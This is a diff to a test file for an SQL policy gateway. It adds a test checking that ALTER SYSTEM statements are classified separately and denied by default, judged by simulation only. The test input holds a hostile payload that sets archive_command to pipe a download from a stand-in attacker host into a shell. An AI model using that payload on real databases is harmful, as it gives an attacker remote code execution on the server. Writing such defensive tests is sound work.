@@ -17,6 +17,9 @@
  *
  * Each is now also of type `catalog`, as CREATE OR REPLACE of such a function
  * is (sql-hidden-writes): a rule must name it.
+ *
+ * And ALTER SYSTEM, the server's own configuration (`archive_command`, a shell
+ * command the server runs), was an `alter` like ALTER TABLE: now `alter_system`.
  */
 import pg from 'pg';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
@@ -81,5 +84,12 @@ describe.skipIf(!db)("statements that change the server's own objects in place a
     expect((await sqlAction(gw, 'CREATE TYPE mood AS ENUM (\'ok\')')).status).toBe(200);
     expect((await sqlAction(gw, 'CREATE FUNCTION public.mood_text(mood) RETURNS text LANGUAGE sql IMMUTABLE AS $$ SELECT $1::text $$')).status).toBe(200);
     expect((await sqlAction(gw, 'CREATE CAST (mood AS text) WITH FUNCTION public.mood_text(mood)')).status).toBe(200);
+  });
+
+  it('ALTER SYSTEM under a rule allowing alters by type: not an alter, so the default denies it (judged by simulation: it never runs)', async () => {
+    const r = await gw.as('deploy-bot', '/v1/policy/simulate', { body: { connection: 'app-db', input: { sql: "ALTER SYSTEM SET archive_command = 'curl -s http://evil.example | sh'" } } });
+    expect(r.status).toBe(200);
+    expect(r.body.effect).toBe('deny');
+    expect(r.body.facts.sql.statements.map((s: { type: string }) => s.type)).toEqual(['alter_system']);
   });
 });
